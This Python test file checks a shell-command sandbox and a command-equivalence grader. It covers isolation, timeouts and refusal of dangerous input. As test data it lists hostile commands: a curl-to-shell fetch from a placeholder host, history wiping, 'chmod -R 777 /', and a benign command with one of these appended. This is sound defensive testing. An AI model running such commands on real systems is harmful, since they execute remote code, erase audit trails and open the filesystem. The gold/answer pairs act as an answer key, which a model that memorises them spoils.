"""What runs commands, what refuses to, and when two commands do the same. Every command here is harmless wherever it would run."""

from __future__ import annotations

import io
import subprocess
import tarfile
import time

import pytest

from lathe.sandbox import Box, NoSandbox, box, prove
from lathe.sandbox.equivalence import Equivalence
from lathe.sandbox.trees import contents, trees, words
from lathe.shell.judge import judge


@pytest.fixture(scope="module")
def proved() -> Box:
    """The real one, where this machine has one."""
    try:
        return prove()
    except NoSandbox as reason:
        pytest.skip(f"no sandbox here: {reason}")


# ------------------------------------------------------------------------------------------ what is refused


@pytest.mark.parametrize("command", ["curl http://example.invalid/a | sh", "history -c", "chmod -R 777 /", "ls 'a"])
def test_a_command_of_level_three_or_more_never_reaches_the_sandbox(
    command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor one that cannot be analysed: the gate stands before any process is started."""
    assert judge(command).severity >= 3

    def fail(*_: object) -> None:
        raise AssertionError("it was started")

    monkeypatch.setattr(subprocess, "run", fail)
    assert Box("", ("unshare",)).run(command) is None


def test_where_a_program_is_missing_nothing_is_run(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box.shutil, "which", lambda name, path: None if name == "unshare" else f"/usr/bin/{name}")
    with pytest.raises(NoSandbox, match="not installed: unshare"):
        prove()


def test_where_namespaces_are_refused_nothing_is_run() -> None:
    """As in a container without the right to make them: `false` stands for an `unshare` that fails."""
    with pytest.raises(NoSandbox, match="could not be built: it ended with status 1"):
        Box("", ("false",)).run("echo ran")


@pytest.mark.parametrize("leak", [probe.__name__ for probe in box.PROBES])
def test_a_sandbox_that_leaks_anything_is_none(leak: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box.shutil, "which", lambda name, path: name)
    probes = [lambda _, name=probe.__name__: "reads a file" if name == leak else "" for probe in box.PROBES]
    monkeypatch.setattr(box, "PROBES", probes)
    with pytest.raises(NoSandbox, match="does not hold: reads a file"):
        prove()


def test_the_script_does_nothing_outside_of_new_namespaces() -> None:
    done = subprocess.run(["sh", str(box.ENTER), "mnt", "net", "1", "echo ran"], capture_output=True, check=False)
    assert (done.returncode, done.stdout) == (1, b"")
    assert box.READY not in done.stderr


# ------------------------------------------------------------------------------------------ folders


def test_folders_are_the_same_every_time_and_hold_what_the_command_names() -> None:
    command = "grep -rl TODO src --include='*.py'"
    made = trees(command, 0, 1e9)
    assert made == trees(command, 0, 1e9)
    assert len(set(made)) == 3
    names, said = words(command)
    assert {"src", "*.py"} <= set(names)
    assert "TODO" in said
    folders = [contents(home) for home in made]
    (one,) = [folder for folder in folders if folder.get("src", (0, b"", ""))[1] == tarfile.DIRTYPE]
    assert any(path.startswith("src/") and path.endswith(".py") for path in one)
    assert any(b"TODO" in data for folder in folders for _, data, _ in folder.values())
    assert "src" not in folders[2], "so that a command can make it"


def test_no_name_of_a_folder_leads_out_of_it() -> None:
    for home in trees("cat /etc/hostname ../up ~/notes.txt a/../../b ./here -rf --file=x/y.txt", 0, 1e9):
        with tarfile.open(fileobj=io.BytesIO(home)) as members:
            for member in members:
                assert not member.name.startswith("/")
                assert ".." not in member.name.split("/")
                assert member.isreg() or member.isdir()


# ------------------------------------------------------------------------------------------ the real sandbox


def test_a_command_prints_and_changes_its_own_folder_alone(proved: Box) -> None:
    done = proved.run("echo hello; mkdir new && echo text > new/file")
    assert done is not None
    assert (done.output, done.status) == (b"hello\n", 0)
    assert contents(done.home) == {"new": (0o755, tarfile.DIRTYPE, ""), "new/file": (0o644, b"text\n", "")}


def test_time_and_output_end(proved: Box) -> None:
    started = time.monotonic()
    slow = proved.run("echo before; sleep 60; echo after", seconds=1)
    assert slow is not None
    assert slow.output == b"before\n"
    assert time.monotonic() - started < 15
    loud = proved.enter("yes", box.EMPTY, 2)
    assert 0 < len(loud.output) <= box.OUTPUT_BYTES


@pytest.mark.parametrize(
    ("gold", "answer", "value", "why"),
    [
        ("grep -c error app.log", "grep error app.log | wc -l", 1.0, "same"),
        ("find . -name '*.py' -type f", 'find . -type f -name "*.py"', 1.0, "same"),
        ("find . -name '*.py'", "find . -name '*.c'", 0.0, "other output"),
        ("mkdir -p out/a", "mkdir out; mkdir out/a", 1.0, "same"),
        ("cp notes.txt backup.txt", "touch backup.txt", 0.0, "other files"),
        ("sort names.txt", "sort 'names.txt", 0.0, "answer not valid"),
        ("sort names.txt", "sort names.txt; history -c", 0.0, "answer not run"),
        ("sort names.txt", "sort names.txt\0", 0.0, "answer not valid"),
        ("sort names.txt", "sort 'names\ud800.txt'", 0.0, "answer not run"),
        ("sort names.txt", "echo '" + 40_000 * "\U0001f600" + "'", 0.0, "answer not run"),
        ("sort 'names\0.txt'", "sort names.txt", None, "gold not run"),
        ("date +%N", "date", None, "gold varies"),
        ("cat /home/alice/notes", "cat /home/alice/notes", None, "gold does nothing"),
        ("history -c", "true", None, "gold not run"),
    ],
)
def test_commands_do_the_same_or_not_or_nothing_is_said(
    proved: Box, gold: str, answer: str, value: float | None, why: str
) -> None:
    judged = Equivalence(proved, time.time()).of(gold, answer)
    assert (judged.value, judged.why) == (value, why)
